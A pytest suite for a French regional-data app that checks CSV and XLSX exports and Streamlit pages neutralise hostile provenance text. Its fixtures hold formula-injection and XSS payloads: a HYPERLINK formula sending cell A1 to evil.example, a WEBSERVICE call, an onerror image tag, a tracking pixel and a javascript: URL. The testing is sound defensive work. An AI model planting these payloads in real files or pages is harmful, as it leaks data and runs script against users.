"""No formula or markup reaches an export or a page through provenance text (issue 9, point 6).

A user indicator is imported through the command line with a label, unit, period, source, licence and URL that are
spreadsheet formulas and Markdown/HTML; every CSV and XLSX the product then writes holds them as neutralised text,
negative figures stay numbers, and the app's pages show them as typed (no image, link, HTML or heading built from
them). A structural guard keeps ``regions.export`` the one CSV/XLSX writer.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from streamlit.testing.v1 import AppTest

from regions import export, indicators

REPO = Path(__file__).resolve().parent.parent
APP = str(REPO / "app.py")
DATA_PAGE = "homeshore/pages/donnees.py"

PICTURE = "![x](http://evil.example/pixel.png)"
LABEL = f'=HYPERLINK("http://evil.example/?q="&A1;"Taux") {PICTURE} <img src=x onerror=alert(1)> [lien](http://evil.example)'
UNIT = "-1+1"
PERIOD = "+1+1 # Titre"
SOURCE = "@SUM(1) **gras** <b>x</b>"
LICENCE = '=WEBSERVICE("http://evil.example") ' + PICTURE
URL = "javascript:alert(1)"
INDICATOR = "solde_hostile"
#: Pieces of Markdown or HTML that must never reach a page unescaped (not after a backslash).
MARKUP = re.compile(
    "|".join(rf"(?<!\\){re.escape(piece)}" for piece in ("![x](", "<img", "[lien](", "<b>", "**gras**", "# Titre"))
)


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "regions.cli", *args], capture_output=True, text=True, check=False, timeout=300
    )


@pytest.fixture
def hostile(user_folder: Path, tmp_path: Path) -> Path:
    """A user indicator imported with the command line, every provenance field hostile, some figures negative."""
    upload = tmp_path / "solde.csv"
    upload.write_text("Département;Solde\n23;-3,5\n87;2\n75;-12\n13;4\n", encoding="utf-8")
    result = cli(
        "data", "import", str(upload), "--id", INDICATOR, f"--label={LABEL}", f"--unit={UNIT}",
        "--orientation", "higher", f"--period={PERIOD}", f"--source={SOURCE}", f"--licence={LICENCE}", f"--url={URL}",
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    indicators.reload()
    return user_folder


def unsafe_cells(rows: list[list[Any]], decimal: str = ".") -> list[Any]:
    """Text cells Excel or LibreOffice would run as a formula (a CSV cell that is a plain number, e.g. ``-3.5``, or
    ``-3,5`` in a French Excel's CSV, is a number to them, not a formula)."""
    return [
        cell
        for row in rows
        for cell in row
        if isinstance(cell, str) and cell.startswith(export.DANGEROUS_PREFIXES) and not _is_number(cell, decimal)
    ]


def _is_number(text: str, decimal: str = ".") -> bool:
    if decimal == "," and "." in text:
        return False  # a point is no decimal separator to a French Excel
    try:
        float(text.replace(decimal, "."))
    except ValueError:
        return False
    return True


def csv_rows(text: str, sep: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=sep))


@pytest.mark.parametrize(
    "args",
    [
        ["sources", "--format", "csv"],
        ["score", "--weights", f"{INDICATOR}=0.5,ftth_share_pct=0.5", "--all", "--format", "csv"],
    ],
    ids=["sources", "score"],
)
def test_command_line_csv_tables_neutralise_provenance_text(hostile: Path, args: list[str]) -> None:
    result = cli(*args)
    assert result.returncode == 0, result.stderr
    rows = csv_rows(result.stdout)
    assert len(rows) > 1 and unsafe_cells(rows) == []
    if args[0] == "sources":
        by_id = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
        shown = by_id[INDICATOR]
        assert shown["label"] == "'" + LABEL and shown["unit"] == "'" + UNIT and shown["period"] == "'" + PERIOD
        assert shown["producer"] == "'" + SOURCE and shown["licence"] == "'" + LICENCE  # nothing lost, only quoted


def test_negative_figures_stay_numbers_in_csv(hostile: Path) -> None:
    rows = csv_rows(cli("indicators", "--format", "csv").stdout)
    column = rows[0].index(INDICATOR)
    by_code = {row[0]: row[column] for row in rows[1:]}
    assert by_code["23"] == "-3.5" and by_code["75"] == "-12.0"  # numbers, not "'-3.5"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_shortlist_exports_neutralise_provenance_text(hostile: Path, tmp_path: Path, suffix: str) -> None:
    target = tmp_path / f"shortlist{suffix}"
    result = cli("export", "--weights", f"{INDICATOR}=0.5,ftth_share_pct=0.5", "--top", "5", "--out", str(target))
    assert result.returncode == 0, result.stderr
    if suffix == ".csv":
        rows = csv_rows(target.read_text(encoding="utf-8-sig"), sep=";")  # French Excel by default
        header = next(row for row in rows if not row[0].startswith("#"))  # below the metadata block
        assert any(cell.startswith("'" + LABEL) for cell in header)  # the figure's header names it, as text
    else:
        workbook = openpyxl.load_workbook(target)
        cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        rows = [[cell.value for cell in cells]]
        assert "'" + LICENCE in rows[0] and "'" + SOURCE in rows[0]
    assert unsafe_cells(rows, "," if suffix == ".csv" else ".") == []


# --- one writer ------------------------------------------------------------------------------------------------------

#: Ways of writing a CSV or XLSX file without ``regions.export``.
WRITERS = re.compile(r"\.to_csv\(|\bcsv\.(writer|DictWriter)\(|\bWorkbook\(|\.to_excel\(|\bExcelWriter\(|xlsxwriter")


#: Developer scripts left writing by themselves, with the reason (neither runs in the product).
INPUT_MAKERS = {
    # the demo *input* file, written as an applicant-tracking system exports it: cells as typed, problems included
    "scripts/make_demo_applicants.py",
    # the bundled figures, copied from the compiled facts as text, unchanged (a negative figure is text there)
    "scripts/import_facts.py",
}


def test_regions_export_is_the_one_csv_and_xlsx_writer() -> None:
    folders = ("regions", "homeshore", "scripts")
    modules = [REPO / "app.py", *(path for folder in folders for path in sorted((REPO / folder).rglob("*.py")))]
    writing = {
        str(path.relative_to(REPO)): [line.strip() for line in path.read_text(encoding="utf-8").splitlines()
                                      if WRITERS.search(line)]
        for path in modules
        if path != REPO / "regions" / "export.py"
    }  # fmt: skip
    assert {path: lines for path, lines in writing.items() if lines and path not in INPUT_MAKERS} == {}
    assert all(writing[path] for path in INPUT_MAKERS)  # still writing by itself, so still worth the exemption


# --- the app ---------------------------------------------------------------------------------------------------------


def markdown_sources(at: AppTest) -> list[str]:
    """Every text the app hands to Streamlit's Markdown renderer: bodies, captions, alerts, headings, expander and
    widget labels, help tooltips (tables and ``st.text`` are plain text and left out)."""
    texts: list[str] = []

    def walk(node: Any) -> None:
        if getattr(node, "type", "") not in ("arrow_data_frame", "dataframe", "text", "code", "json"):
            proto = getattr(node, "proto", None)
            for field in ("body", "label", "help", "value"):
                value = getattr(proto, field, None) if proto is not None else None
                if isinstance(value, str):
                    texts.append(value)
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    return texts


@pytest.fixture
def app() -> AppTest:
    at = AppTest.from_file(APP, default_timeout=180).run()
    assert not at.exception, at.exception
    return at


def test_the_data_page_shows_user_provenance_as_typed(hostile: Path, app: AppTest) -> None:
    app.switch_page(DATA_PAGE).run()
    assert not app.exception, app.exception
    texts = markdown_sources(app)
    assert any("evil\\.example" in text or "evil.example" in text for text in texts)  # shown, not dropped
    leaks = [text for text in texts if MARKUP.search(text)]
    assert leaks == []
    table = app.dataframe[0].value.set_index("Indicateur")
    assert table.loc[LABEL, "Licence"] == LICENCE and table.loc[LABEL, "Période"] == PERIOD  # the table: as typed
    assert table.loc[LABEL, "Lien"] is None or table.loc[LABEL, "Lien"] != URL  # no javascript: link


def test_the_map_page_and_its_sidebar_show_the_label_as_typed(hostile: Path, app: AppTest) -> None:
    app.slider(key=f"hs_w_{INDICATOR}").set_value(100).run()
    assert not app.exception, app.exception
    leaks = [text for text in markdown_sources(app) if MARKUP.search(text)]
    assert leaks == []


def test_the_map_escapes_the_label_and_source(hostile: Path) -> None:
    from homeshore import views
    from regions import maps, scoring

    table = indicators.territory_table()
    weights = {INDICATOR: 1.0}
    page = maps.map_html(
        views.build_map(table, scoring.score(table, weights), weights, INDICATOR, "fr", "metropole", None, None)
    )
    for raw in ("<img src=x", "<b>x</b>"):
        assert raw not in page and raw not in page.replace("\\u003c", "<").replace("\\u003e", ">")


@pytest.mark.parametrize(
    ("typed", "escaped"),
    [
        ("Taux de chômage (%), l'an 2025-12 / 12,5 %", "Taux de chômage (%), l'an 2025-12 / 12,5 %"),  # reads as typed
        (PICTURE, "\\!\\[x\\](http\\://evil.example/pixel.png)"),
        (
            "<b>x</b> **y** _z_ `c` ~~s~~ $x$ :red[r]",
            "\\<b\\>x\\</b\\> \\*\\*y\\*\\* \\_z\\_ \\`c\\` \\~\\~s\\~\\~ \\$x\\$ \\:red\\[r\\]",
        ),
        ("# Titre\n- liste", "\\# Titre - liste"),
        ("- a", "\\- a"),
        ("1. a", "1\\. a"),
        ("voir www.evil.example ou a@evil.example", "voir www\\.evil.example ou a\\@evil.example"),
    ],
)
def test_user_text_is_escaped_for_markdown_and_still_reads_as_typed(typed: str, escaped: str) -> None:
    from homeshore.plain import md

    assert md(typed) == escaped
